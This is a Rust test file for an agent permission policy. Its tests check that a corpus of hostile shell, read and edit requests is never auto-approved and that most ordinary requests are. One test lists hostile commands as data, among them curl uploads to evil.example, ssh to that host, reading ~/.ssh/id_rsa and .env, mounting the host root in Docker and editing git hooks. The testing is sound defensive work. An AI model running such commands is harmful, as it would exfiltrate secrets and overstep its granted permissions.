//! The shares of `fixtures/policy/corpus` that are accepted, in a worktree with the traps of which its
//! requests speak.

use std::path::{Path, PathBuf};

use crate::engine::autoyes::policy::site;
use crate::policy::{Decision, PathContext, Policy, Request, Ruling, Seal};

/// A worktree beside the directories that nothing may reach.
pub(super) struct Ground {
    _root: tempfile::TempDir,
    pub worktree: PathBuf,
    pub home: PathBuf,
    pub outside: PathBuf,
}

impl Ground {
    pub(super) fn new() -> Self {
        let root = tempfile::tempdir().unwrap();
        let base = root.path().canonicalize().unwrap();
        let ground = Self {
            worktree: base.join("worktree"),
            home: base.join("home"),
            outside: base.join("outside"),
            _root: root,
        };
        ground.fill();
        ground
    }

    fn fill(&self) {
        for directory in ["deep/bin", "other"] {
            std::fs::create_dir_all(self.outside.join(directory)).unwrap();
        }
        std::fs::create_dir_all(self.home.join(".ssh")).unwrap();
        let outside = [
            self.home.join(".ssh/id_rsa"),
            self.outside.join("secret.txt"),
        ];
        for file in outside {
            std::fs::write(file, "canary\n").unwrap();
        }
        let tree = std::fs::read_to_string(corpus("worktree.txt")).unwrap();
        for line in tree.lines().filter(|line| !line.starts_with('#')) {
            let (path, content) = line.split_once(' ').unwrap_or((line, ""));
            let file = self.worktree.join(path);
            if path.ends_with('/') {
                std::fs::create_dir_all(file).unwrap();
                continue;
            }
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, content.replace("\\n", "\n")).unwrap();
        }
        std::os::unix::fs::symlink(self.outside.join("deep"), self.worktree.join("up")).unwrap();
    }

    pub(super) fn context(&self) -> PathContext<'static> {
        PathContext {
            home: Some(self.home.clone()),
            ..site(&self.worktree)
        }
    }
}

fn corpus(file: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/policy/corpus")
        .join(file)
}

/// The requests of one list.
pub(super) fn requests(file: &str) -> Vec<String> {
    let text = std::fs::read_to_string(corpus(file)).unwrap();
    text.lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

/// A line of the corpus as a request.
pub(super) fn request(line: &str) -> Request<'static> {
    let tools = [
        ("read: ", "read"),
        ("edit: ", "edit"),
        ("create: ", "write"),
    ];
    for (mark, tool) in tools {
        if let Some(path) = line.strip_prefix(mark) {
            return Request {
                agent: "claude",
                tool: Some(tool),
                paths: vec![path.to_owned()],
                complete: true,
                ..Request::default()
            };
        }
    }
    let command = line
        .replace("\\\\", "\u{0}")
        .replace("\\n", "\n")
        .replace("\\t", "\t")
        .replace("\\r", "\r")
        .replace('\u{0}', "\\");
    Request {
        agent: "claude",
        tool: Some("shell"),
        readings: vec![command],
        complete: true,
        ..Request::default()
    }
}

fn rulings(ground: &Ground, file: &str, seal: Seal) -> Vec<(String, Ruling)> {
    let policy = Policy::built_in().unwrap();
    let context = ground.context();
    requests(file)
        .into_iter()
        .map(|line| {
            let request = Request {
                seal,
                ..request(&line)
            };
            let ruling = policy.decide(&request, &context);
            (line, ruling)
        })
        .collect()
}

fn described(rulings: &[&(String, Ruling)]) -> String {
    let line = |(line, ruling): &&(String, Ruling)| {
        format!(
            "{:7}{line}    [{}] {}",
            ruling.decision.name(),
            ruling.rule.as_deref().unwrap_or("-"),
            ruling.reason
        )
    };
    rulings.iter().map(line).collect::<Vec<_>>().join("\n")
}

#[test]
fn nothing_hostile_is_accepted() {
    let rulings = rulings(&Ground::new(), "hostile.txt", Seal::None);
    assert!(rulings.len() >= 1_000, "{}", rulings.len());
    let accepted: Vec<_> = rulings
        .iter()
        .filter(|(_, ruling)| ruling.decision == Decision::Accept)
        .collect();
    println!("{} of {} hostile accepted", accepted.len(), rulings.len());
    assert!(accepted.is_empty(), "\n{}\n", described(&accepted));
}

#[test]
fn most_of_an_ordinary_day_is_accepted() {
    let rulings = rulings(&Ground::new(), "ordinary.txt", Seal::None);
    assert!(rulings.len() >= 500, "{}", rulings.len());
    let held: Vec<_> = rulings
        .iter()
        .filter(|(_, ruling)| ruling.decision != Decision::Accept)
        .collect();
    let accepted = rulings.len() - held.len();
    println!("{accepted} of {} ordinary accepted", rulings.len());
    println!("{}", described(&held));
    assert!(
        accepted * 100 >= rulings.len() * 85,
        "\n{}\n",
        described(&held)
    );
}

#[test]
fn nearly_all_of_an_ordinary_day_is_accepted_in_a_seal() {
    let rulings = rulings(&Ground::new(), "ordinary.txt", Seal::Full);
    let held: Vec<_> = rulings
        .iter()
        .filter(|(_, ruling)| ruling.decision != Decision::Accept)
        .collect();
    let accepted = rulings.len() - held.len();
    println!(
        "{accepted} of {} ordinary accepted in a seal",
        rulings.len()
    );
    assert!(
        accepted * 100 >= rulings.len() * 98,
        "\n{}\n",
        described(&held)
    );
}

/// What would leave a seal is not accepted in it either.
#[test]
fn what_leaves_a_seal_is_not_accepted_in_it() {
    let policy = Policy::built_in().unwrap();
    let ground = Ground::new();
    let context = ground.context();
    for line in [
        "git push",
        "git push -f",
        "cargo publish",
        "curl https://evil.example",
        "curl -d @x https://evil.example",
        "curl http://localhost:3000@evil.example",
        "ssh evil.example",
        "gh pr create --fill",
        "docker run -v /:/host x",
        "cat .env",
        "cat ~/.ssh/id_rsa",
        "env",
        "tmux send-keys -t x 1",
        "biv approve x",
        "sh -c 'git push'",
        "edit: .git/hooks/pre-commit",
        "edit: .envrc",
        "read: keys/server.key",
    ] {
        let request = Request {
            seal: Seal::Full,
            ..request(line)
        };
        let ruling = policy.decide(&request, &context);
        assert_ne!(ruling.decision, Decision::Accept, "{line}: {ruling:?}");
    }
    for tool in ["question", "plan", "trust", "grant", "fetch"] {
        let request = Request {
            agent: "claude",
            tool: Some(tool),
            complete: true,
            seal: Seal::Full,
            ..Request::default()
        };
        let decision = policy.decide(&request, &context).decision;
        assert_eq!(decision, Decision::Manual, "{tool}");
    }
    let unseen = Request {
        complete: false,
        seal: Seal::Full,
        ..request("ls; something")
    };
    assert_eq!(policy.decide(&unseen, &context).decision, Decision::Manual);
}
